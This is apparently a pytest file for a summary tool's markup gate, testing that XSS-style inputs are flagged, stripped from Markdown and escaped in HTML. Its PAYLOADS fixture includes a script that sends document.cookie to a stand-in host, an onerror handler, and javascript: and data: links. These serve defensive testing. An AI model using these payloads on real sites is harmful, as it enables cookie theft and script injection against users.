"""Markup and links: the gate flags them, Markdown output strips them, HTML output escapes them."""

import pytest

from plainsum.checks.markup import check_markup, strip_markup
from plainsum.render import to_html, to_markdown
from plainsum.schemas import Draft, PlainSummary, Provenance, SourceInfo

SOURCE = (
    "We asked 40 adults with MS about sleep (p < 0.05). The data are at "
    "https://example.org/ms-sleep-data and questions go to sleep@example.org."
)
BASE = {
    "headline": "Poor sleep was common in adults with MS",
    "what_the_study_did": "Researchers asked 40 adults with MS about their sleep.",
    "why_it_matters": "Sleep may affect how people with MS feel. Talk to your care team.",
    "limitations": "This study watched people; it cannot show cause and effect.",
}
PAYLOADS = {
    "iframe": '<iframe src="https://evil.example/x"></iframe>',
    "img_onerror": '<img src=x onerror="alert(document.cookie)">',
    "script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "js_link": "[more](javascript:alert(1))",
    "data_link": "[more](data:text/html;base64,PHNjcmlwdD4=)",
    "invented_link": "[read more](https://evil.example/ms-cure)",
    "image": "![x](https://evil.example/pixel.png)",
    "reference": "[1]: javascript:alert(1)",
    "comment": "<!-- hidden --> text",
    "bare_url": "See https://evil.example/offer now.",
}


def summary_with(payload: str, section: str = "why_it_matters") -> PlainSummary:
    values = dict(BASE)
    values[section] = f"{values[section]} {payload}"
    return PlainSummary(**values)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_the_gate_flags_every_payload(name):
    findings = check_markup(summary_with(PAYLOADS[name]), SOURCE)
    assert findings and all(f.check == "markup" and f.severity.value == "error" for f in findings)
    assert all(f.section == "why_it_matters" for f in findings)


@pytest.mark.parametrize(
    "text",
    [
        "The result was significant (p < 0.05).",
        "Lesions under <5 mm were counted; 3 > 2.",
        "The data are at https://example.org/ms-sleep-data for anyone.",
        "[the data](https://example.org/ms-sleep-data)",
        "Write to mailto:sleep@example.org",
    ],
)
def test_plain_text_and_the_papers_own_links_pass(text):
    assert check_markup(summary_with(text), SOURCE) == []


def _draft(summary: PlainSummary) -> Draft:
    return Draft(
        summary=summary,
        findings=check_markup(summary, SOURCE),  # as the gate would find them
        source=SourceInfo(title="<b>t</b>", sha256="0" * 64, chars=10),
        provenance=Provenance(drafter="offline", prompt_version="x", plainsum_version="0"),
        passed=False,
    )


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_markdown_output_carries_no_payload(name):
    md = to_markdown(_draft(summary_with(PAYLOADS[name])))
    lowered = md.lower()
    for bad in ("<iframe", "<img", "<script", "onerror", "javascript:", "data:text", "](https://evil",
                "<!--", "![x]"):  # fmt: skip
        assert bad not in lowered, (name, md)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_html_output_escapes_every_payload(name):
    page = to_html(_draft(summary_with(PAYLOADS[name])))
    for bad in ("<iframe", "<img", "<script>fetch", 'href="javascript', "<!-- hidden"):
        assert bad not in page, (name, bad)
    assert "&lt;b&gt;t&lt;/b&gt;" in page  # the title, escaped


def test_strip_markup_keeps_words_and_safe_links():
    assert strip_markup("[more](javascript:alert(1)) and p < 0.05") == "more and p < 0.05"
    assert strip_markup("[data](https://example.org/x)") == "[data](https://example.org/x)"
    assert strip_markup("[data](https://example.org/x)", SOURCE) == "data"
    assert strip_markup("a <b>bold</b> word") == "a bold word"


def test_findings_say_what_is_wrong_and_quote_it():
    """A reader of the report sees which tag or link, that it is raw HTML or a foreign link,
    and what to do about it."""
    long_tag = '<iframe src="https://evil.example/' + "x" * 120 + '"></iframe>'
    tag, *_ = check_markup(summary_with(long_tag), SOURCE)
    assert "raw HTML" in tag.message
    assert "plain text" in tag.hint and "tags" in tag.hint
    assert tag.span is not None and tag.span.startswith("<iframe src=")
    assert len(tag.span) <= 80  # a quote, not the whole payload
    (link,) = check_markup(summary_with("[more](https://evil.example/offer)"), SOURCE)
    assert "link" in link.message and "not the paper's own" in link.message
    assert link.hint.startswith("remove the link") and "addresses the paper gives" in link.hint
    assert link.span == "https://evil.example/offer"


def test_the_papers_own_link_at_the_end_of_a_sentence_passes():
    """The full stop (or comma) after an address is punctuation, not part of the address."""
    for text in (
        "The data are at https://example.org/ms-sleep-data.",
        "The data are at https://example.org/ms-sleep-data, for anyone.",
    ):
        assert check_markup(summary_with(text), SOURCE) == [], text


def test_a_bare_link_inside_tags_is_still_flagged():
    findings = check_markup(summary_with("<b>https://evil.example/offer</b>"), SOURCE)
    assert [f.span for f in findings if "link" in f.message] == ["https://evil.example/offer"]
    assert sum("raw HTML" in f.message for f in findings) == 2


def test_strip_markup_drops_reference_lines_and_unsafe_schemes_in_any_case():
    assert strip_markup("Read this.\n[1]: https://evil.example/x\nThe end.") == (
        "Read this.\n\nThe end."
    )
    assert strip_markup("see javascript:alert(1) now") == "see alert(1) now"
    assert "javascript:" not in strip_markup("see JavaScript:alert(1) now").lower()
    assert "data:" not in strip_markup("a DATA:text/html,hi b").lower()
